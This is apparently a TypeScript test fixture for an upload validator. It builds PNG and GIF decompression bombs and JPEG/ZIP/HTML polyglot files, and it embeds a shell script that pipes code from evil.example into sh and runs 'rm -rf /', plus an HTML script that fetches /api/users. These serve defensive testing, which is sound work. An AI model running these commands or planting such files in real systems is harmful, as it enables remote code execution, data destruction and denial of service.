import { crc32, deflateSync } from 'node:zlib';
import { sampleImage } from '../../test/multipart.ts';

export const SHELL_SCRIPT = Buffer.from(
  '#!/bin/sh\ncurl -s https://evil.example/x | sh\nrm -rf / --no-preserve-root\n',
);

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([head, typed, crc]);
}

/** A valid-looking PNG of a few hundred bytes whose header claims width × height pixels. */
export function pngBomb(width = 30_000, height = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(2, 9); // truecolour
  // One filtered row of zeros: the rest would be inflated on decode, which must never happen.
  const idat = deflateSync(Buffer.alloc(1 + width * 3));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real GIF whose screen and frame claim 30000 × 30000. */
export async function gifBomb(): Promise<Buffer> {
  const bomb = Buffer.from(await sampleImage('gif'));
  bomb.writeUInt16LE(30_000, 6);
  bomb.writeUInt16LE(30_000, 8);
  const descriptor = bomb.indexOf(0x2c, 13);
  bomb.writeUInt16LE(30_000, descriptor + 5);
  bomb.writeUInt16LE(30_000, descriptor + 7);
  return bomb;
}

export const ZIP_MAGIC = Buffer.from([0x50, 0x4b, 0x03, 0x04]);
const HTML = Buffer.from(
  '<html><body><script>fetch("/api/users").then(r=>r.text()).then(alert)</script></body></html>',
);

/** A minimal stored ZIP entry (local header + data): enough for unzip tools to find a file. */
function zipOf(name: string, data: Buffer): Buffer {
  const header = Buffer.alloc(30);
  ZIP_MAGIC.copy(header, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt32LE(crc32(data), 14);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(data.length, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, Buffer.from(name, 'latin1'), data]);
}

/** A real JPEG with a ZIP (holding a script) and HTML riding after its end marker. */
export async function jpegZipPolyglot(): Promise<Buffer> {
  return Buffer.concat([await sampleImage('jpeg'), zipOf('run.sh', SHELL_SCRIPT), HTML]);
}

/** HTML first (a browser sniffing it sees a page), a JPEG after it. */
export async function htmlJpegPolyglot(): Promise<Buffer> {
  return Buffer.concat([HTML, await sampleImage('jpeg')]);
}

export const HTML_MARKER = '<script>';
